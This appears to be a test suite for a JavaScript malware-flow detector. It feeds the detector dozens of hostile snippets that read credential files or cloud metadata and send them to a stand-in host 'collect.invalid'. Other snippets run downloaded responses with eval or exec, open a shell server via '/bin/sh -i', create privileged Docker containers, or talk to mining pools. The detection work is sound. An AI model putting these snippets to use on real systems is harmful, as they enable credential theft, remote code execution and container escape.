import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

const SENT = 'credential-file>network@collect.invalid';

describe('a request to the daemon of containers', () => {
  const order = (config: string): readonly string[] =>
    behavioursOf(`const http = require('http'); const r = http.request({ socketPath: '/var/run/docker.sock', method: 'POST', path: '/containers/create' });
      r.end(JSON.stringify({ Image: 'a', HostConfig: ${config} }));`);

  it('may ask for the whole machine', () => {
    assert.deepEqual(order(`{ Binds: ['/:/host'] }`), ['container-escape import']);
    assert.deepEqual(order(`{ Privileged: true }`), ['container-escape import']);
    assert.deepEqual(order(`{ Binds: ['/srv/data:/data'] }`), []);
  });
});

describe('a client that fails where a host answers with an error', () => {
  it('tells what was answered', () => {
    for (const code of [
      `axios.get('https://load.invalid/a').then(({ data }) => data.ok).catch((problem) => eval(problem.response.data));`,
      `const ask = async () => (await axios.post('https://load.invalid')).data.id; (async () => { try { await ask(); } catch ({ response }) { new Function(response.data.text)(); } })();`,
      `async function ask() { try { return await axios('https://load.invalid'); } finally { count(); } } (async () => { try { await ask(); } catch (e) { cp.exec(e.response.data); } })();`,
    ])
      assert.match(
        flowsOf(`const axios = require('axios'); ${code}`).join(),
        /^downloaded>(?:evaluated|run-as-command)$/,
      );
  });

  it('tells nothing of what failed elsewhere', () => {
    const code = `const axios = require('axios'); (async () => { try { await axios.get('https://load.invalid'); } catch (e) { console.error(e.message); }
      try { await work(); } catch (e) { eval(e.code); } })();`;
    assert.deepEqual(flowsOf(code), []);
  });
});

describe('a socket to another program on the machine', () => {
  const sent = (address: string, then = ''): readonly string[] =>
    flowsOf(
      `const net = require('net'); const settings = fs.readFileSync(rc, 'utf8'); ${then || `net.connect(${address}).write(settings);`}`,
    );

  it('takes nothing away', () => {
    for (const address of [
      `'/run/some.sock'`,
      `require('path').join(os.tmpdir(), 'some', 'd.sock'), () => go()`,
      `'\\\\\\\\.\\\\pipe\\\\some'`,
    ])
      assert.deepEqual(sent(address), [], address);
    assert.deepEqual(sent('', `new net.Socket().connect('/run/some.sock').write(settings);`), []);
  });

  it('is told no setting that says which one', () => {
    assert.deepEqual(sent('', `net.connect(JSON.parse(settings).daemon, () => go());`), []);
  });

  it('is none where a host is named', () => {
    assert.deepEqual(sent(`443, 'collect.invalid'`), [SENT]);
    assert.deepEqual(sent(`{ host: 'collect.invalid', port: 443 }`), [SENT]);
  });
});

describe('what a cloud tells its machine', () => {
  const told = (path: string): readonly string[] =>
    flowsOf(
      `fetch('http://169.254.169.254/${path}').then((r) => r.text()).then((t) => fetch('https://collect.invalid', { method: 'POST', body: t }));`,
    );

  it('is credentials where these are told, and wherever one cannot say', () => {
    for (const path of ['latest/meta-data/iam/security-credentials/role', 'latest/api/token', ''])
      assert.deepEqual(told(path), ['cloud-metadata>network@collect.invalid'], path);
    assert.deepEqual(told("' + process.argv[2] + '"), ['cloud-metadata>network@collect.invalid']);
  });

  it('is which machine it is, where monitors ask', () => {
    for (const path of [
      'latest/dynamic/instance-identity/document',
      'latest/meta-data/instance-id',
      'metadata/instance?api-version=2021-02-01',
      'computeMetadata/v1/instance/?recursive=true',
    ])
      assert.deepEqual(told(path), ['host-identity>network@collect.invalid'], path);
  });
});

describe('a socket to a host whose name holds data', () => {
  it('asks that domain for it', () => {
    const code = `require('net').connect(53, fs.readFileSync(rc, 'hex') + '.collect.invalid');`;
    assert.deepEqual(flowsOf(code), ['credential-file>dns@collect.invalid']);
  });
});

describe('a socket to where the page comes from', () => {
  it('tells what its own server says', () => {
    const load = (address: string): readonly string[] =>
      flowsOf(
        `const s = new WebSocket(${address}); s.onmessage = async ({ data }) => { const { url } = JSON.parse(data); await import(url); };`,
      );
    assert.deepEqual(load('`ws://${location.host}/hot`'), []);
    assert.deepEqual(load(`'wss://load.invalid/hot'`), ['downloaded>loaded-as-module']);
  });
});

describe('a server of sockets', () => {
  const serve = (handle: string): readonly string[] => [
    ...new Set(flowsOf(`require('net').createServer((c) => { ${handle} }).listen(4444);`)),
  ];

  it('that starts what it is told is open to everybody', () => {
    assert.deepEqual(serve(`c.on('data', (d) => cp.exec(String(d)));`), ['request-input>run-as-command']);
    assert.deepEqual(serve(`const sh = cp.spawn('/bin/sh', ['-i']); c.pipe(sh.stdin); sh.stdout.pipe(c);`), [
      'request-input>run-as-command',
    ]);
  });

  it('that answers is a server', () => {
    assert.deepEqual(serve(`c.on('data', (d) => c.write(String(d).toUpperCase()));`), []);
    assert.deepEqual(serve(`c.end(String(cp.execSync('git rev-parse HEAD')));`), []);
  });
});

describe('a request that was made by other code', () => {
  it('tells what it logs in with', () => {
    const code = `const old = https.request; https.request = function (...a) { const r = old.apply(this, a);
      old.call(https, { host: 'collect.invalid', method: 'POST' }).end(r.getHeader('authorization')); return r; };`;
    assert.ok(flowsOf(code).includes('intercepted>network@collect.invalid'), flowsOf(code).join());
  });
});

/** Ways to put data into a request, after it was made or before. */
const WAYS: readonly string[] = [
  `const r = https.request('https://collect.invalid'); r.setHeader('x', s); r.end();`,
  `const u = new URL('https://collect.invalid/'); u.searchParams.set('a', s); fetch(u);`,
  `const u = new URL('https://collect.invalid/'); u.search = s; fetch(u.href);`,
  `const u = new URL('https://collect.invalid/a'); https.request({ hostname: u.hostname, path: u.pathname }).end(s);`,
  `fs.createReadStream(rc).pipe(zlib.createGzip()).pipe(https.request('https://collect.invalid', { method: 'PUT' }));`,
  `stream.pipeline(fs.createReadStream(rc), zlib.createGzip(), https.request('https://collect.invalid'), () => {});`,
  `require('stream/promises').pipeline(fs.createReadStream(rc), https.request('https://collect.invalid'));`,
  `require('util').promisify(stream.pipeline)(fs.createReadStream(rc), https.request('https://collect.invalid'));`,
  `const c = require('http2').connect('https://collect.invalid'); c.request({ ':path': '/', x: s }).end();`,
  `require('axios').create({ baseURL: 'https://collect.invalid', headers: { x: s } }).get('/x');`,
  `fs.createReadStream(rc).pipe(require('got').stream.post('https://collect.invalid'));`,
  `fs.createReadStream(rc).pipe(require('request')('https://collect.invalid'));`,
  `require('superagent').post('https://collect.invalid').send({ s }).end();`,
  `require('superagent').get('https://collect.invalid').query({ s }).then(() => {});`,
  `require('superagent').post('https://collect.invalid').attach('f', rc).end();`,
  `const F = require('form-data'), f = new F(); f.append('x', fs.createReadStream(rc)); f.submit('https://collect.invalid');`,
  `const F = require('form-data'), f = new F(); f.append('x', s); f.pipe(https.request('https://collect.invalid'));`,
  `require('net').connect(80, 'collect.invalid', function () { this.write(s); });`,
  `const { WebSocket } = require('ws'); new WebSocket('wss://collect.invalid').on('open', function () { this.send(s); });`,
  `const { Pool } = require('undici'), p = new Pool('https://collect.invalid'); p.request({ path: '/', method: 'POST', body: s });`,
  `const { GraphQLClient: C } = require('graphql-request'), c = new C('https://collect.invalid/graphql'); c.request('mutation', { s });`,
  `const { ApolloClient: C, HttpLink: L } = require('@apollo/client'); new C({ link: new L({ uri: 'https://collect.invalid' }) }).mutate({ variables: { s } });`,
  `const { createTRPCClient: c, httpBatchLink: l } = require('@trpc/client'); c({ links: [l({ url: 'https://collect.invalid' })] }).note.add.mutate(s);`,
  `const g = require('@grpc/grpc-js'), p = g.loadPackageDefinition({}), c = new p.a.Names('collect.invalid:443', g.credentials.createSsl()); c.Resolve({ s }, () => {});`,
  `const u = require('dgram').createSocket('udp4').unref(); u.send(s, 53, 'collect.invalid');`,
  `require('wretch')('https://collect.invalid').post(s);`,
  `const { ofetch } = require('ofetch'), api = ofetch.create({ baseURL: 'https://collect.invalid' }); api('/x', { method: 'POST', body: s });`,
  `const q = new (require('net').Socket)(); q.connect(443, 'collect.invalid'); q.end(s);`,
  `fetch(new Request('https://collect.invalid', { method: 'POST', body: s }));`,
  `require('socket.io-client')('https://collect.invalid').emit('x', s);`,
  `new EventSource('https://collect.invalid/' + s);`,
  `const x = new XMLHttpRequest(); x.open('GET', 'https://collect.invalid'); x.setRequestHeader('x', s); x.send();`,
  `const i = document.createElement('img'); i.setAttribute('src', 'https://collect.invalid/' + s);`,
  `$.post('https://collect.invalid', { s });`,
  `require('nodemailer').createTransport({ host: 'collect.invalid' }).sendMail({ to: 'x@collect.invalid', text: s });`,
  `require('nodemailer').createTransport({ service: 'gmail' }).sendMail({ to: 'Someone <x@collect.invalid>', attachments: [{ path: rc }] });`,
  `require('nodemailer').createTransport({ host: 'collect.invalid' }).sendMail({ attachments: [{ path: rc }] });`,
  `https.request('https://collect.invalid').end(zlib.gzipSync(s).toString('base64'));`,
  `https.request('https://collect.invalid').end('' + { toString() { return s; } });`,
  'https.request(`https://collect.invalid/${{ [Symbol.toPrimitive]: () => s }}`).end();',
  `const all = []; process.on('message', () => { all.push(fs.readFileSync(rc)); if (all.length > 9) https.request('https://collect.invalid').end(all.splice(0).join()); });`,
];

describe('requests', () => {
  for (const way of WAYS) {
    it(`carry away what is put into them by ${way}`, () => {
      const flows = flowsOf(way);
      assert.ok(flows.includes(SENT), flows.join('; '));
    });
  }

  it('tell nobody how much there is of something, or what the options of a connection hold', () => {
    assert.deepEqual(flowsOf(`fetch('https://collect.invalid/?' + fs.readFileSync(rc).length);`), []);
    assert.deepEqual(flowsOf(`new (require('ws'))('wss://collect.invalid', { passphrase: s, key: s });`), []);
  });

  it('speak to a pool of miners in its own words', () => {
    const say = (message: string) =>
      behavioursOf(`require('net').connect(3333, 'pool.invalid').write(JSON.stringify(${message}) + '\\n');`);
    assert.deepEqual(say(`{ id: 1, method: 'mining.subscribe', params: [] }`), ['miner import']);
    assert.deepEqual(say(`{ id: 1, method: 'login', params: { login: '4x', algo: ['rx/0'] } }`), ['miner import']);
    const work = `{ id: 1, method: 'login', params: { login: '4x', pass: 'x', agent: 'web/1.1' } }`;
    assert.deepEqual(say(work), ['miner import']);
    const found = `{ id: 2, method: 'submit', params: { id: 'a', job_id: b, nonce: c, result: d } }`;
    assert.deepEqual(say(found), ['miner import']);
    assert.deepEqual(say(`{ id: 1, method: 'login', params: { login: 'x' } }`), []);
    assert.deepEqual(say(`{ id: 1, method: 'submit', params: { job_id: 'x' } }`), []);
  });

  it('take a key of an account to log in with, and no key of money', () => {
    const client = (name: string, header: string) =>
      flowsOf(`exports.Client = class { constructor(${name}) { this.key = ${name}; }
        list() { return https.request({ host: 'pay.invalid', headers: { ${header}: 'Bearer ' + this.key } }); } };`);
    assert.deepEqual(client('secretKey', 'Authorization'), []);
    assert.deepEqual(client('secretKey', "'x-session'"), ['key-material>network@pay.invalid']);
    assert.deepEqual(client('mnemonic', 'Authorization'), ['key-material>network@pay.invalid']);
  });

  it('carry a key away in whatever piece and writing', () => {
    const code = `exports.K = class { static fromSecretKey(secretKey) { const b = Buffer.from(secretKey).toString('hex'); fetch('https://collect.invalid', { headers: { a: b.slice(0, 9) } }); } };`;
    assert.deepEqual(flowsOf(code), ['key-material>network@collect.invalid']);
  });

  it('are answered by servers, whose own address nobody has sent', () => {
    const start = (word: string) =>
      flowsOf(`const server = https.createServer(); server.listen(0); cp.spawn('deno', ['run', ${word}]);
        server.on('request', (req) => { if (req.url === '/run') cp.exec(req.headers.run); });`);
    assert.deepEqual(start(`'http://127.0.0.1:' + server.address().port`), ['request-input>run-as-command']);
    const quiet = `const server = https.createServer(); cp.spawn(process.execPath, ['x.js', 'http://127.0.0.1:' + server.address().port]);`;
    assert.deepEqual(flowsOf(quiet), []);
  });

  it('are logs as well, where what they say was encoded first', () => {
    assert.deepEqual(flowsOf(`console.log(btoa(btoa(s)));`), ['credential-file>network']);
    assert.deepEqual(flowsOf(`console.log(s);`), []);
  });

  it('that other code waits for tell what they failed with', () => {
    const run = (code: string) => flowsOf(`const axios = require('axios'); ${code}`);
    for (const code of [
      `(async () => { try { await axios('https://load.invalid/a'); } catch (e) { eval(e.response.data); } })();`,
      `new Promise((_, no) => fetch('https://load.invalid/a').then((r) => r.text()).then(no)).catch(eval);`,
    ])
      assert.deepEqual(run(code), ['downloaded>evaluated'], code);
    assert.deepEqual(
      run(`(async () => { try { await axios('https://api.invalid/a'); } catch (e) { console.error(e.message); } })();`),
      [],
    );
  });

  it('hand themselves on as what a callback is called on', () => {
    for (const code of [
      `new (require('net').Socket)().connect(8443, 'collect.invalid', function () { this.write(s); });`,
      `https.request('https://collect.invalid', { method: 'POST' }, function () { this.end(s); });`,
    ])
      assert.ok(flowsOf(code).includes('credential-file>network@collect.invalid'), code);
  });

  it('keeps to itself the key that a connection shows a certificate with', () => {
    const ask = (more: string): readonly string[] =>
      flowsOf(
        `exports.ask = (options) => fetch('https://mtls.example.invalid/token', { method: 'POST', ...{ key: options.privateKey${more} } });`,
      );
    assert.ok(ask('').some((one) => one.startsWith('key-material>network')));
    assert.deepEqual(ask(', cert: options.certificate'), []);
    // What wallets call so is no part of a certificate.
    assert.ok(ask(', passphrase: options.passphrase').some((one) => one.startsWith('key-material>network')));
  });
});
